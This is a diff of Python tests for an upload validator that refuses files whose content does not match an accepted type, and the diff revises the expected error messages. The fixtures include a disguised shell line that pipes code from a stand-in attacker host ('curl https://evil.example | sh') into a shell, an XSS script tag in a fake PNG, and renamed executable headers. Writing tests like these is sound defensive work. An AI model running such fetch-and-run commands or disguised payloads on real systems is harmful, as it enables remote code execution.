@@ -89,29 +89,47 @@ def test_a_docx_with_an_embedded_workbook_and_ole_object_passes():
 
 
 @pytest.mark.parametrize(
-    ("filename", "content"),
+    ("filename", "content", "message"),
     [
-        ("report.pdf", make_pe() + bytes(512)),  # a renamed Windows executable
-        ("report.pdf", b"#!/bin/sh\ncurl https://evil.example | sh\n%%EOF\n"),
-        ("chart.png", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
-        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)),
-        ("notes.pdf", b" %PDF-1.7\n%%EOF\n"),  # the header must be at offset 0
-        ("data.xlsx", b"\x7fELF\x02\x01\x01" + bytes(57)),
+        # a renamed Windows executable
+        ("report.pdf", make_pe() + bytes(512), evidence.unreadable("PDF")),
+        (
+            "report.pdf",
+            b"#!/bin/sh\ncurl https://evil.example | sh\n%%EOF\n",
+            evidence.unreadable("PDF"),
+        ),
+        (
+            "chart.png",
+            b"<!DOCTYPE html><html><script>alert(1)</script></html>",
+            evidence.unreadable("PNG image"),
+        ),
+        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), evidence.WRONG_TYPE),
+        # the header must be at offset 0
+        ("notes.pdf", b" %PDF-1.7\n%%EOF\n", evidence.unreadable("PDF")),
+        ("data.xlsx", b"\x7fELF\x02\x01\x01" + bytes(57), evidence.unreadable("Excel spreadsheet")),
+        ("notes.txt", b"just some words", evidence.WRONG_TYPE),
     ],
 )
-def test_content_that_is_not_an_accepted_type_is_refused(filename, content):
-    assert refused(filename, content) == (
-        "The selected file must be a PDF, PNG, JPEG, DOCX, XLSX or PPTX"
+def test_content_that_is_not_an_accepted_type_is_refused(filename, content, message):
+    assert refused(filename, content) == message
+
+
+def test_a_name_that_promises_an_accepted_type_is_told_the_file_could_not_be_read():
+    assert refused("Minutes.PDF", b"this was a PDF once") == (
+        "The selected file could not be read as a PDF. Check that it opens, save it again "
+        "and upload the new copy"
     )
 
 
 def test_a_zip_that_is_not_office_open_xml_is_refused():
-    assert refused("a.docx", make_zip(("readme.txt", b"hello"))) == evidence.WRONG_TYPE
+    assert refused("a.zip", make_zip(("readme.txt", b"hello"))) == evidence.WRONG_TYPE
+    word = evidence.unreadable("Word document")
+    assert refused("a.docx", make_zip(("readme.txt", b"hello"))) == word
     no_main = make_zip(("[Content_Types].xml", content_types()), ("word/other.xml", b"<x/>"))
-    assert refused("a.docx", no_main) == evidence.WRONG_TYPE
+    assert refused("a.docx", no_main) == word
     no_types = make_zip(("word/document.xml", b"<x/>"))
-    assert refused("a.docx", no_types) == evidence.WRONG_TYPE
-    assert refused("a.docx", make_zip()) == evidence.WRONG_TYPE
+    assert refused("a.docx", no_types) == word
+    assert refused("a.docx", make_zip()) == word
 
 
 def test_a_package_that_is_both_a_document_and_a_workbook_is_refused():
@@ -180,7 +198,7 @@ def test_an_image_that_a_pdf_reader_would_open_is_refused():
 def test_a_zip_with_data_before_it_is_refused():
     docx = SAMPLES["docx"]
     # A non-zip prefix is simply not an accepted type.
-    assert refused("a.docx", b"GIF89a" + bytes(32) + docx) == evidence.WRONG_TYPE
+    assert refused("a.gif", b"GIF89a" + bytes(32) + docx) == evidence.WRONG_TYPE
     # zipfile would open this one, finding the real archive after a fake local header.
     prefixed = b"PK\x03\x04" + bytes(60) + docx
     with zipfile.ZipFile(io.BytesIO(prefixed)) as zf:
